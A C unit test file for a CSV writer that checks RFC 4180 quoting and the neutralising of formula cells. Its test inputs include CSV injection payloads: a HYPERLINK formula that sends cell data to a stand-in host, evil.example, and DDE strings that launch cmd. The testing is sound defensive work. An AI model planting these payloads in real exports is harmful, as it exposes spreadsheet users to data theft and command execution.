/* SPDX-License-Identifier: EUPL-1.2 */
/* CSV records (server/render/csv.c): RFC 4180 quoting, and no cell a
 * spreadsheet would run as a formula (OWASP, "CSV Injection"). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "render/csv.h"

/* One record of the given fields, as written. */
static char *row(const char *const *fields, int n)
{
	strbuf_t sb;
	sb_init(&sb, NULL);
	csv_row(&sb, fields, n);
	char *s = strdup(sb.data);
	sb_free(&sb);
	return s;
}

/* The record of one field. */
static void assert_cell(const char *field, const char *want)
{
	const char *f[] = {field};
	char *got = row(f, 1);
	assert_string_equal(got, want);
	free(got);
}

static void test_csv_quotes_only_what_needs_it(void **state)
{
	(void)state;
	strbuf_t sb;
	sb_init(&sb, NULL);
	const char *row1[] = {"section", "key", "label", "value"};
	const char *row2[] = {"unit", "DI", "Departament \"Infrastruktury\", Warszawa", NULL};
	const char *row3[] = {"x", "wiersz\r\ndrugi", "zażółć", "1.5"};
	csv_row(&sb, row1, 4);
	csv_row(&sb, row2, 4);
	csv_row(&sb, row3, 4);
	assert_string_equal(sb.data, "section,key,label,value\r\n"
				     "unit,DI,\"Departament \"\"Infrastruktury\"\", Warszawa\",\r\n"
				     "x,\"wiersz\r\ndrugi\",zażółć,1.5\r\n");
	sb_free(&sb);
}

static void test_csv_cells_that_start_a_formula_get_a_quote_and_quotes(void **state)
{
	(void)state;
	assert_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Kliknij\")",
	            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Kliknij\"\")\"\r\n");
	assert_cell("=1+1", "\"'=1+1\"\r\n");
	assert_cell("+48 600 700 800", "\"'+48 600 700 800\"\r\n");
	assert_cell("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"\r\n");
	assert_cell("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n");
	assert_cell("\t=1+1", "\"'\t=1+1\"\r\n");
	assert_cell("\r=1+1", "\"'\r=1+1\"\r\n");
	/* A sign and nothing else, or a sign before something not a number. */
	assert_cell("-", "\"'-\"\r\n");
	assert_cell("+", "\"'+\"\r\n");
	assert_cell("-1-1", "\"'-1-1\"\r\n");
	assert_cell("-1.", "\"'-1.\"\r\n");
	assert_cell("-.5", "\"'-.5\"\r\n");
	assert_cell("-1e", "\"'-1e\"\r\n");
	assert_cell("-1,5", "\"'-1,5\"\r\n");
	assert_cell("- 1", "\"'- 1\"\r\n");
}

static void test_csv_plain_numbers_with_a_sign_stay_numbers(void **state)
{
	(void)state;
	assert_cell("-3", "-3\r\n");
	assert_cell("+2", "+2\r\n");
	assert_cell("-0.25", "-0.25\r\n");
	assert_cell("-1.5e-07", "-1.5e-07\r\n");
	assert_cell("-2E+10", "-2E+10\r\n");
	assert_cell("1e+20", "1e+20\r\n");
	assert_cell("0", "0\r\n");
	assert_cell("-12 zł", "\"'-12 zł\"\r\n");
}

static void test_csv_formula_characters_later_in_a_cell_are_text(void **state)
{
	(void)state;
	assert_cell("a=1+1", "a=1+1\r\n");
	assert_cell("COMON.1431.15.2026", "COMON.1431.15.2026\r\n");
	assert_cell("2026-03-01", "2026-03-01\r\n");
	assert_cell(" =1", " =1\r\n");
	assert_cell("", "\r\n");
}

static void test_csv_every_field_of_a_record_is_checked(void **state)
{
	(void)state;
	const char *f[] = {"COMON.1.1.2026", "=cmd", NULL, "-7", "@x"};
	char *got = row(f, 5);
	assert_string_equal(got, "COMON.1.1.2026,\"'=cmd\",,-7,\"'@x\"\r\n");
	free(got);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_csv_quotes_only_what_needs_it),
	    cmocka_unit_test(test_csv_cells_that_start_a_formula_get_a_quote_and_quotes),
	    cmocka_unit_test(test_csv_plain_numbers_with_a_sign_stay_numbers),
	    cmocka_unit_test(test_csv_formula_characters_later_in_a_cell_are_text),
	    cmocka_unit_test(test_csv_every_field_of_a_record_is_checked),
	};
	return cmocka_run_group_tests_name("csv", tests, NULL, NULL);
}
